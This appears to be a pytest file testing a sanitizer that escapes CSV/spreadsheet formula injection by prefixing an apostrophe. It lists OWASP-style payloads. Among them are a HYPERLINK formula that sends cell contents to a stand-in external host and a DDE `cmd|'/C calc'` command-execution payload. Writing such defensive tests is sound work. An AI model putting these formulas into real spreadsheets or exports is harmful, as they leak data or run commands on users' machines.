"""What OWASP lists for CSV injection is a text, and all else stays as it is."""

import pytest

from inbound_webhook.engine.spreadsheet import plain_cell


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\u00a0=1",
        "\ufeff=1",
        "{=1+1}",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
        '=HYPERLINK("https://x.example/?"&A1)',
        "=cmd|'/C calc'!A0",
        "|x",
        "%0A-3",
    ],
)
def test_what_would_be_computed_has_an_apostrophe(text):
    assert plain_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "value",
    ["", "Ada", "'=1", "a=1", "1-2", "{}", "{}=", "ada@x.example", 0, -1, -1.5, False],
)
def test_all_else_stays(value):
    assert plain_cell(value) == value
